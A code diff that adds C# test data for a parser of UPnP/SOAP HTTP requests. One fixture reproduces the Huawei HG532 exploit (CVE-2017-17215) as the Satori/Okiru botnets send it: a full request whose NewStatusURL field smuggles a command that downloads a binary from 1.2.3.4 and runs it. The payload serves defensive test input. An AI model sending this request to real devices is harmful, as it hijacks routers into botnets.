@@ -64,6 +64,40 @@ public static class SoapParsingData
         { "SOAPAction: \"urn:example-com:quotes#getQuote\"", Envelope("<q:getQuote xmlns:q=\"urn:example-com:quotes\"/>") },
     };
 
+    /// <summary>
+    /// The Huawei HG532 exploit (CVE-2017-17215) as Satori/Okiru send it: no SOAPAction, no Content-Type, a fixed digest.
+    /// </summary>
+    public const string Hg532StatusUrl = "$(/bin/busybox wget -g 1.2.3.4 -l /tmp/x -r /bins/mips;chmod 777 /tmp/x;/tmp/x)";
+
+    public static string Hg532Upgrade()
+    {
+        string body = "<?xml version=\"1.0\" ?>\n <s:Envelope xmlns:s=\"http://schemas.xmlsoap.org/soap/envelope/\" " +
+            "s:encodingStyle=\"http://schemas.xmlsoap.org/soap/encoding/\">\n  <s:Body><u:Upgrade xmlns:u=\"urn:schemas-upnp-org:service:WANPPPConnection:1\">\n" +
+            $"   <NewStatusURL>{Hg532StatusUrl}</NewStatusURL>\n   <NewDownloadURL>$(echo HUAWEIUPNP)</NewDownloadURL>\n  </u:Upgrade>\n </s:Body>\n</s:Envelope>\n\n";
+        return "POST /ctrlt/DeviceUpgrade_1 HTTP/1.1\r\nContent-Length: " + body.Length + "\r\nConnection: keep-alive\r\nAccept: */*\r\n" +
+            "Authorization: Digest username=\"dslf-config\", realm=\"HuaweiHomeGateway\", nonce=\"88645cefb1f9ede0e336e3569d75ee30\", " +
+            "uri=\"/ctrlt/DeviceUpgrade_1\", response=\"3612f843a42db38f48f59d2a3597e19c\", algorithm=\"MD5\", qop=\"auth\", nc=00000001, cnonce=\"248d1a2560100669\"\r\n\r\n" +
+            body;
+    }
+
+    /// <summary>A POST with no SOAPAction header: its Content-Type line (or none) and its body.</summary>
+    public static string PostWithoutSoapAction(string? contentType, string body, string path = "/ctl/IPConn") =>
+        $"POST {path} HTTP/1.1\r\nHOST: 192.168.1.1:5000\r\n" + (contentType is null ? "" : $"Content-Type: {contentType}\r\n") +
+        $"Content-Length: {body.Length}\r\n\r\n" + body;
+
+    /// <summary>POSTs without SOAPAction that are not UPnP control, whatever their body: no soap event.</summary>
+    public static TheoryData<string?, string> NotUpnpWithoutSoapAction => new()
+    {
+        { "text/xml; charset=\"utf-8\"", Envelope("<GetDeviceSettings xmlns=\"http://purenetworks.com/HNAP1/\" />", "soap") },
+        { "text/xml", Envelope("<GetData xmlns=\"http://tempuri.org/\"><value>1</value></GetData>") },
+        { null, Envelope("<ns:query xmlns:ns=\"http://example.com/ws\"/>") },
+        // The envelope is there but not UPnP: a service type needs urn:…:service:….
+        { null, Envelope(Action("Upgrade", "urn:schemas-upnp-org:device:InternetGatewayDevice:1")) },
+        { null, "{\"Envelope\": \"urn:schemas-upnp-org:service:WANIPConnection:1\"}" },
+        { "application/x-www-form-urlencoded", "x=" + Envelope(Action("GetExternalIPAddress", WanIp1)) },
+        { null, "" },
+    };
+
     /// <summary>Degenerate SOAPAction values with a UPnP body: a soap event that names the issue.</summary>
     public static TheoryData<string, string> DegenerateSoapActions => new()
     {
